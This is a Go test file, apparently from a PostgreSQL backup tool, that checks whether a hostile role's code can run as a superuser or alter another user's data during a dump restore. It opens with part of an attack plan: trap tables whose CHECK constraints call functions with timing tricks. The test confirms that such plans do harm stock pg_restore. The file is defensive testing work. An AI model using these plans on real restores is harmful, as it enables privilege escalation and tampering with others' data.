		CREATE TABLE trap.z (n int, f text); INSERT INTO trap.z SELECT 1, repeat('x', 1000) FROM generate_series(1,10); CREATE FUNCTION trap.slow(n int) RETURNS int LANGUAGE plpgsql AS 'BEGIN IF current_database() <> ''mal'' AND n = 1 THEN PERFORM pg_sleep(1.5); END IF; RETURN 1; END'; CREATE TABLE trap.b1 (n int CHECK (trap.slow(n) > 0), f text); INSERT INTO trap.b1 SELECT n, repeat('x', 1000) FROM generate_series(1, 2000) n; CREATE TABLE trap.a (n int CHECK (trap.arm(n) > 0), f text); INSERT INTO trap.a SELECT 1, repeat('x', 1000) FROM generate_series(1, 3000)`},
}

// What code of an owner does while a dump is loaded, to what is loaded later, gains nothing: none of it runs as a superuser, bob's is
// as it was, and what can't be loaded so is refused. Loaded as everybody does, the plans work.
func TestWhatCodeDoesDuringALoadGainsNothing(t *testing.T) {
	all := map[string]plan{}
	for _, some := range []map[string]plan{plans, plansOfTypes, plansOfChange, plansOfGuards, plansOfLooks, plansOfLooksAgain, plansThird, plansFourth, plansOfDeputies, plansOfLast} {
		maps.Copy(all, some)
	}
	for name, p := range all {
		t.Run(name, func(t *testing.T) {
			t.Parallel() // most of them wait
			formats := p.formats
			if formats == nil {
				formats = []string{postgres.FormatPlain, postgres.FormatCustom}
			}
			server := loadServer(t)
			as(t, server, "postgres", bobs)
			as(t, server, "mallory", weapons+"CREATE TABLE hers.log (s text); GRANT USAGE ON SCHEMA hers TO PUBLIC; GRANT ALL ON hers.log TO PUBLIC")
			for _, step := range []struct{ role, sql string }{{"postgres", p.before}, {"mallory", p.hers}, {"postgres", p.after}} {
				as(t, server, step.role, step.sql)
			}
			for _, format := range formats {
				config := loadConfig(t, server, format)
				manifest := loadDump(t, config)
				forget(t, server)
				err := loadBackup(t, config, manifest, "guarded", false)
				wantNoLogins(t, server)
				if err != nil && !errors.Is(err, backup.ErrContent) && !p.fails {
					t.Fatalf("%s: %v", format, err)
				}
				for _, harm := range p.harm(t, server, "guarded", err == nil) {
					t.Errorf("%s: %s", format, harm)
				}
				if err == nil { // otherwise it is refused, with nothing left
					server.DropDatabase(t, "guarded")
				}
			}
			if p.ours {
				return
			}
			forget(t, server)
			stockArchive(t, server)
			if len(p.harm(t, server, "stock", true)) == 0 {
				t.Errorf("stock tools are not harmed: the plan is not live; sprung are %v", sprung(t, server))
			}
		})
	}
}

// harm is what a plan did: what ran as a superuser, and in the database, if there is one, what is not as it must be.
func (p plan) harm(t *testing.T, server *postgrestest.Server, database string, loaded bool) []string {
	t.Helper()
	var harm []string
	for name, superuser := range sprung(t, server) {
		if superuser == "true" {
			harm = append(harm, name+" ran as a superuser")
		}
	}
	if server.Value(t, "postgres", "SELECT (pg_stat_file(current_setting('data_directory') || '/mallory', true)).size IS NULL") != "t" {
		harm = append(harm, "a file was written as a superuser")
	}
	if !loaded {
		return harm
	}
	for _, probes := range []map[string]string{untouched, p.probe} {
		for sql, want := range probes {
			if got := server.Value(t, database, sql); got != want {
				harm = append(harm, sql+" = "+got+", want "+want)
			}
		}
	}
	return harm
}

// untouched is what bob has, as queries and what they say.
var untouched = map[string]string{
	"SELECT bobs.secret()":                                    "bobs",
	"SELECT count(*) FROM bobs.ledger":                        "2",
	"SELECT count(*) FROM pg_class WHERE relname = 'planted'": "0",
}

// stockArchive loads a dump as everybody does, in the custom format, as far as it goes.
func stockArchive(t *testing.T, server *postgrestest.Server) {
	t.Helper()
	server.CreateDatabase(t, "stock")
	load := exec.CommandContext(t.Context(), "sh", "-ec", `"$1"/pg_dump -Fc -d "$2" | "$1"/pg_restore -d "$3"`,
		"-", server.Bin, server.URL("mal"), server.URL("stock"))
	output, err := load.CombinedOutput()
	if err != nil {
		t.Logf("%v\n%.500s", err, output) // one statement that fails stops pg_restore from nothing else
	}
}
